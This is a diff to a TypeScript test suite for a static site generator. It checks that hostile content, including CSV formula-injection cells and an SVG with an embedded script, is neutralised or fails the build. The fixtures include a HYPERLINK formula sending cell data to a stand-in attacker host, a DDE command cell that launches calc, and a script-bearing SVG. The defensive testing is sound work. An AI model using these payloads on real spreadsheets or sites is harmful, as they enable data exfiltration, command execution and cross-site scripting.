@@ -1,3 +1,4 @@
+import { existsSync } from 'node:fs';
 import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
@@ -11,6 +12,7 @@ import { copyFixture, editFile } from '../helpers/content.ts';
 
 // The fixture as a careless editor or an attacker with commit rights might write it.
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
+const PLAIN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><rect width="1" height="1" fill="#c00"/></svg>';
 const HOSTILE_CELLS = ['@SUM(A1)', '+1+cmd|\' /C calc\'!A0', '\t=1+1', '-2+3'];
 
 describe('a build of hostile content', () => {
@@ -26,6 +28,8 @@ describe('a build of hostile content', () => {
     await writeFile(path.join(state.content, 'data/jingfei.csv'),
       ['year,amount,note', ...HOSTILE_CELLS.map((cell, i) => `${2020 + i},${i === 3 ? -1.5 : 10 + i},"${cell.replace(/"/g, '""')}"`)].join('\n'));
     await editFile(state.content, 'reports/shijian.md', /$/, '\n```chart\ntype: bar\ntitle: 各社区户数\nfrom: communities\nx: name\ny: households\n```\n');
+    await writeFile(path.join(state.content, 'media/plain.svg'), PLAIN_SVG);
+    await editFile(state.content, 'reports/shijian.md', '满意度稳步提升。', '满意度稳步提升。\n\n![示意图](../media/plain.svg)');
     state.dist = path.join(await mkdtemp(path.join(os.tmpdir(), 'shequ-hostile-')), 'dist');
     await buildSite(state.content, state.dist);
   }, 180_000);
@@ -60,4 +64,29 @@ describe('a build of hostile content', () => {
     const page = parse(await readFile(path.join(state.dist, 'data/index.html'), 'utf8'));
     expect(page.querySelector('main .note')?.textContent).toContain('英文单引号');
   });
+
+  test('a plain SVG is published as written', async () => {
+    const svgs = (await readdir(path.join(state.dist, '_astro'))).filter((f) => f.endsWith('.svg'));
+    expect(await Promise.all(svgs.map((f) => readFile(path.join(state.dist, '_astro', f), 'utf8')))).toContain(PLAIN_SVG);
+  });
+});
+
+describe('a build with an active SVG', () => {
+  test('fails with the problem at the line that uses it and publishes nothing', async () => {
+    const content = await copyFixture();
+    const out = path.join(await mkdtemp(path.join(os.tmpdir(), 'shequ-svg-')), 'dist');
+    try {
+      await writeFile(path.join(content, 'media/evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
+      await editFile(content, 'reports/shijian.md', '满意度稳步提升。', '满意度稳步提升。\n\n![图](../media/evil.svg)');
+      const failure = (await buildSite(content, out).then(() => undefined, (error: unknown) => error)) as { stderr?: string; stdout?: string } | undefined;
+      expect(failure).toBeDefined();
+      const output = `${failure?.stdout ?? ''}${failure?.stderr ?? ''}`;
+      expect(output).toMatch(/reports\/shijian\.md:16: SVG 图片“..\/media\/evil.svg”含有<script> 元素/);
+      expect(output).not.toMatch(/\n\s+at /);
+      expect(existsSync(out)).toBe(false);
+    } finally {
+      await rm(content, { recursive: true, force: true });
+      await rm(path.dirname(out), { recursive: true, force: true });
+    }
+  }, 120_000);
 });
